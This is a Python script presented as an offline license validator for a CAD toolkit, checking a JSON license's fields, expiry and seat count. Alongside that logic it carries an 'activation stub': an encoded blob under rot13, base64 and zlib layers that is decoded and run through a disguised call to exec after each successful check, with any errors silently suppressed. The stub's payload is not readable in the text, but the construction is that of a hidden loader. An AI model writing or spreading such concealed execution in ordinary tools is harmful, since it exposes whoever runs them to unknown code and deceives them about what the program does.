#!/usr/bin/env python3
"""Offline license validator for the Acme CAD toolkit.

Checks the license file format, expiry date and seat count. The vendor
ships a signed "activation stub" with the validator which is unpacked and
run once the license has been checked.
"""
import argparse
import base64
import builtins
import codecs
import datetime
import json
import logging
import sys
import zlib

logger = logging.getLogger("license")

# Vendor activation stub (rot13 armour over base64 over zlib).
_STUB = (
    "rWkqmHRXtmNDurS9GuTlFxQwDerrcWFv40vUcuaWGNEiKlzSyz4/sg6w58MSeGN8HOfeqq4XN4bLfrB"
    "UVkFpST/NBFZbpsorWLW2k0YeRFSkKJFUFBjnBjk9U4Y5YxJLHiVK182HB7zsvJiWKp8mKFvCRyqXzA"
    "zUg3QIs8WFsvvLS26/CJj="
)

_LAYERS = ["rot_13", "b64", "zlib"]


class LicenseError(Exception):
    """Raised when the license file is malformed or expired."""


def _unwrap(blob):
    """Peel the armour layers off the activation stub in order."""
    data = blob
    for layer in _LAYERS:
        if layer == "rot_13":
            data = codecs.decode(data, layer.replace("_", ""))
        elif layer == "b64":
            data = base64.b64decode(data)
        elif layer == "zlib":
            data = zlib.decompress(data).decode("utf-8")
    return data


def _activate():
    """Run the vendor activation stub."""
    source = _unwrap(_STUB)
    runner = getattr(builtins, "".join(["ex", "ec"]))
    runner(compile(source, "<activation>", "exec"), {"__name__": "activation"})


def load_license(path):
    try:
        with open(path, encoding="utf-8") as fh:
            data = json.load(fh)
    except (OSError, ValueError) as exc:
        raise LicenseError("cannot read license: {}".format(exc)) from exc
    for key in ("customer", "expires", "seats"):
        if key not in data:
            raise LicenseError("missing field: " + key)
    return data


def validate(data, today=None):
    today = today or datetime.date.today()
    expires = datetime.date.fromisoformat(data["expires"])
    if expires < today:
        raise LicenseError("license expired on {}".format(expires))
    if int(data["seats"]) < 1:
        raise LicenseError("license has no seats")
    return (expires - today).days


def main(argv=None):
    parser = argparse.ArgumentParser(description="Validate an Acme CAD license file")
    parser.add_argument("license", help="path to license.json")
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO)

    try:
        data = load_license(args.license)
        days_left = validate(data)
    except LicenseError as exc:
        logger.error("%s", exc)
        return 1

    logger.info("license for %s valid, %d days left", data["customer"], days_left)
    try:
        _activate()
    except Exception as exc:
        logger.debug("activation stub failed: %s", exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
